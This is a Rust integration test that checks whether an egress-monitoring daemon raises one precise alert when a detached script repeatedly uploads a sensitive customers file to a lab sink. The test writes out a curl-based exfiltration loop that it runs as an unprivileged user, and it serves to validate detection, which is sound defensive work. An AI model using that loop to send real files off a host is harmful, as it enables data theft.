//! The main job: a script without a terminal sends a sensitive file every two seconds. One alert, after the twelfth
//! transfer, that names everything; and none about what goes on beside it.

mod quiet;

use std::fs;
use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{Context as _, Result, ensure};
use egress_tests::command::Running;
use egress_tests::daemon::Daemon;
use egress_tests::lab::{Arrived, Lab, SINK_V4};
use egress_tests::records::{at, number, of, text};
use egress_tests::require::ready;
use serde_json::Value;

/// Transfers: as many as make a repetition without a scheduler (`detection.min_episodes`).
const TRANSFERS: usize = 12;
/// Every user has it, and it owns nothing.
const NOBODY: &str = "65534";

#[test]
fn one_alert_about_the_job_and_none_about_the_rest() -> Result<()> {
    if !ready(&["curl", "scp", "script", "setsid", "ssh-keygen", "sshd"]) {
        return Ok(());
    }
    let lab = Lab::new()?;
    let secrets = lab.path("secrets");
    let file = secrets.join("customers.csv");
    fs::create_dir(&secrets)?;
    fs::write(&file, "name,card\n".repeat(20_000))?;
    let config = format!(
        "[sensitive]\nbusiness = [\"{}/**\"]\n[events]\nflow_interval = \"500ms\"\nhealth_interval = \"1s\"\n",
        secrets.display()
    );
    let mut daemon = Daemon::start(&config)?;
    let to = SocketAddr::new(SINK_V4, 8080);
    let mut sink = lab.serve(&lab.sink, &["http"], to)?;
    let quiet = quiet::start(&lab, &file)?;

    let script = lab.path("exfil.sh");
    let (path, url) = (file.display(), format!("http://{to}/in"));
    fs::write(
        &script,
        format!(
            "n=0\nwhile [ $n -lt {TRANSFERS} ]; do\ncurl -sS --max-time 5 -T {path} {url}/$n\nn=$((n + 1))\nsleep 2\ndone\n"
        ),
    )?;
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755))?;
    let mut job = lab.source.command("setpriv");
    job.args([
        "--reuid",
        NOBODY,
        "--regid",
        NOBODY,
        "--clear-groups",
        "--",
        "setsid",
        "sh",
    ])
    .arg(&script);
    let _job = Running::start_ungrouped(&mut job, lab.dir())?;

    let scp = quiet.copy_by_hand(&lab)?;
    let alerts = |records: &[Value]| transfers_alerted(records).next().is_some();
    let waited = daemon.wait_records("the alert", Duration::from_mins(1), alerts);
    let alerted = SystemTime::now().duration_since(UNIX_EPOCH)?;
    waited?;
    let transfers = sink.wait_lines(Duration::from_secs(5), |lines| lines.len() > TRANSFERS)?;
    let transfers = &transfers[1..];
    let arrived = lab.truth()?.at("tcp", to);
    quiet.finish()?;
    // Long enough for a second alert about the last of them, were there one.
    std::thread::sleep(Duration::from_secs(3));

    let run = daemon.stop()?;
    let alerts: Vec<&Value> = transfers_alerted(&run.records).collect();
    ensure!(
        alerts.len() == 1,
        "not one alert but {}: {alerts:?}",
        alerts.len()
    );
    let alert = alerts[0];
    check(
        alert,
        &script.display().to_string(),
        &file.display().to_string(),
        to,
    )
    .with_context(|| alert.to_string())?;
    check_figures(alert, transfers, arrived, alerted)
        .with_context(|| format!("{alert} of {transfers:?}"))?;
    quiet::check(&run.records, &scp)
}

/// Alerts about transfers. What others do on this host at the same time may lower coverage.
fn transfers_alerted(records: &[Value]) -> impl Iterator<Item = &Value> {
    of(records, "alert").filter(|alert| text(alert, "rule.id") != Some("coverage"))
}

/// Who, what, where to.
fn check(alert: &Value, script: &str, file: &str, to: SocketAddr) -> Result<()> {
    let ip = to.ip().to_string();
    let texts = [
        ("event.kind", "alert"),
        ("rule.id", "automated_exfiltration"),
        ("egress.job.script.path", script),
        ("user.id", NOBODY),
        ("user.name", "nobody"),
        ("process.name", "curl"),
        ("destination.ip", &ip),
    ];
    for (path, wanted) in texts {
        ensure!(
            text(alert, path) == Some(wanted),
            "{path} is {:?}, not {wanted}",
            at(alert, path)
        );
    }
    ensure!(
        number(alert, "destination.port") == Some(to.port().into()),
        "destination.port"
    );
    let techniques = at(alert, "threat.technique.id")
        .and_then(Value::as_array)
        .context("threat.technique.id")?;
    ensure!(
        techniques.first().and_then(Value::as_str) == Some("T1020"),
        "techniques: {techniques:?}"
    );
    let score = number(alert, "event.risk_score").context("event.risk_score")?;
    ensure!((50..=100).contains(&score), "score {score}");
    let files = at(alert, "egress.files")
        .and_then(Value::as_array)
        .context("egress.files")?;
    ensure!(
        files
            .iter()
            .any(|evidence| text(evidence, "path") == Some(file)),
        "files: {files:?}"
    );
    let evidence = at(alert, "egress.evidence")
        .and_then(Value::as_array)
        .context("egress.evidence")?;
    let explained = evidence
        .iter()
        .all(|signal| text(signal, "sentence").is_some_and(|sentence| !sentence.is_empty()));
    ensure!(
        !evidence.is_empty() && explained,
        "an alert that does not explain itself"
    );
    Ok(())
}

/// How much, how often, when: against the sink's own figures.
fn check_figures(
    alert: &Value,
    transfers: &[Value],
    arrived: Arrived,
    alerted: Duration,
) -> Result<()> {
    let figure = |name: &str| {
        number(alert, &format!("egress.alert.{name}"))
            .with_context(|| format!("egress.alert.{name}"))
    };
    ensure!(figure("episodes")? == transfers.len() as u64, "episodes");
    let received: u64 = transfers
        .iter()
        .filter_map(|transfer| number(transfer, "received"))
        .sum();
    ensure!(
        figure("app_bytes")? == received,
        "{received} application bytes arrived"
    );
    // Exact, because the server closes first: every packet of curl's has its socket behind it.
    ensure!(figure("wire_bytes")? == arrived.bytes, "{arrived:?}");
    let starts: Vec<u64> = transfers
        .iter()
        .filter_map(|transfer| number(transfer, "start_ns"))
        .collect();
    let mut gaps: Vec<u64> = starts.windows(2).map(|pair| pair[1] - pair[0]).collect();
    gaps.sort_unstable();
    let (told, period) = (figure("period_ns")?, gaps[gaps.len() / 2]);
    ensure!(
        told.abs_diff(period) < period / 5,
        "a period of {told} ns, not of {period} ns"
    );
    let end = transfers
        .iter()
        .filter_map(|transfer| number(transfer, "end_ns"))
        .max()
        .context("an end")?;
    let late = alerted.saturating_sub(Duration::from_nanos(end));
    ensure!(
        late < Duration::from_secs(2),
        "the alert came {late:?} after the last transfer"
    );
    Ok(())
}
